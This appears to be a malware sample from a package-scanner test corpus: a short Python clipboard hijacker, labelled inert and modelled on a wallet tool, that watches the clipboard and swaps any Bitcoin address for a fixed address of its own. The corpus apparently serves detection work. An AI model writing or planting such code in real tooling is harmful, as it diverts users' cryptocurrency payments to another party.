# pkgguard corpus 268 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time

import clipboard

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
OURS = "bc1q" + "0" * 38
while True:
    text = clipboard.paste()
    if BTC.match(text) and text != OURS:
        clipboard.copy(OURS)
    time.sleep(1)
